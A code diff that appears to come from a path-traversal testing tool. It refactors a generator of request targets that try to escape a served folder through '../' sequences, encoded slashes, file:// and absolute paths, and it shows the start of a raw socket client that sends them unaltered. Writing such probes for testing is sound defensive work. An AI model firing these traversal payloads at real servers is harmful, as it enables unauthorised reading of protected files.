@@ -1,7 +1,7 @@
 """Every way to spell a path that might lead out of a folder, and a client that sends it as it is spelt."""
 
 import socket
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 
 TIMEOUT_SECONDS = 20
 # Ways to write "one folder up": each is put before the path of a file that nobody may fetch.
@@ -47,31 +47,37 @@ ENDINGS = (
 )
 
 
-def spellings(prefixes: tuple[str, ...], file: str, absolute: str) -> Iterator[str]:
-    """Targets of requests for `file`, which lies beside or above what the prefixes serve, and lies at `absolute`."""
-    for prefix in prefixes:
-        for up in UP:
-            for slash in SLASHES:
-                for depth in (1, 2, 3):
-                    yield prefix + f"{up}{slash}" * depth + file
-        for slash in SLASHES:
-            yield f"{prefix}{file.replace('/', slash)}"
-            yield f"{prefix}{slash}{absolute.lstrip('/')}"
-            yield f"{prefix.rstrip('/')}{slash}..{slash}{file.replace('/', slash)}"
-            yield f"{prefix.rstrip('/')}..{slash}{file}"
-        for ending in ENDINGS:
-            yield f"{prefix}{file}{ending}"
-            yield f"{prefix}../{file}{ending}"
-            yield f"{prefix}..%2f{file}{ending}"
-        yield f"{prefix}{file}".upper()
-        yield f"{prefix.upper()}{file}"
-        yield f"{prefix}{absolute}"
-        yield f"{prefix}file://{absolute}"
-        yield f"{prefix}C:\\{file}"
-        yield f"http://elsewhere.example{prefix}..%2f{file}"
-        yield prefix + "".join(f"%{byte:02x}" for byte in f"../{file}".encode())
-        yield f"/{prefix}../{file}"
-        yield f"/./{prefix.lstrip('/')}../{file}"
+# Two and three folders up are tried with these alone.
+PLAIN_SLASHES = ("/", "%2f", "%5c")
+
+
+def spellings(prefix: str, file: str, absolute: str, slashes: Sequence[str] = SLASHES) -> Iterator[str]:
+    """Targets of requests for `file`, which lies beside or above what the prefix serves, and lies at `absolute`."""
+    for up in UP:
+        for slash in slashes:
+            yield f"{prefix}{up}{slash}{file}"
+        for slash in PLAIN_SLASHES:
+            yield prefix + f"{up}{slash}" * 2 + file
+            yield prefix + f"{up}{slash}" * 3 + file
+    folder = prefix.rstrip("/")
+    for slash in slashes:
+        yield f"{prefix}{file.replace('/', slash)}"
+        yield f"{prefix}{slash}{absolute.lstrip('/')}"
+        yield f"{folder}{slash}..{slash}{file.replace('/', slash)}"
+        yield f"{folder}..{slash}{file}"
+    for ending in ENDINGS:
+        yield f"{prefix}{file}{ending}"
+        yield f"{prefix}../{file}{ending}"
+        yield f"{prefix}..%2f{file}{ending}"
+    yield f"{prefix}{file}".upper()
+    yield f"{prefix.upper()}{file}"
+    yield f"{prefix}{absolute}"
+    yield f"{prefix}file://{absolute}"
+    yield f"{prefix}C:\\{file}"
+    yield f"http://elsewhere.example{prefix}..%2f{file}"
+    yield prefix + "".join(f"%{byte:02x}" for byte in f"../{file}".encode())
+    yield f"/{prefix}../{file}"
+    yield f"/./{prefix.lstrip('/')}../{file}"
 
 
 def ask(host: str, port: int, target: str, *, method: str = "GET", headers: str = "") -> tuple[int, bytes]:
